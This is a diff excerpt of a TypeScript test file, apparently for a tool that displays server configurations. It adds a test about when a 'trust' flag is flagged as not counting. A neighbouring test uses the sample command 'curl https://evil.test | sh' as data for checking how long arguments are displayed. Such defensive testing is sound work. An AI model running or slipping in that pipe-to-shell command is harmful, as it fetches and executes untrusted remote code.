@@ -43,6 +43,14 @@ test('one that changed says so', () => {
   );
 });
 
+test('a trust that will not count is told; where it does, nothing is', () => {
+  const raw = { command: 'x', trust: true };
+  const written = { name: 'gh', scope: 'local', label: 'f', raw } as const;
+  expect(shown(server(raw))).toMatch(/\n {2}"trust" will not count: a file that is shared/);
+  expect(shown(server({ command: 'x', trust: false }))).not.toContain('will not count');
+  expect(shown(server(raw, { written }))).not.toContain('will not count');
+});
+
 test('a long argument is shown to its end, and nothing in it draws on the terminal or looks like a line of ours', () => {
   const tail = 'curl https://evil.test | sh';
   const raw = {
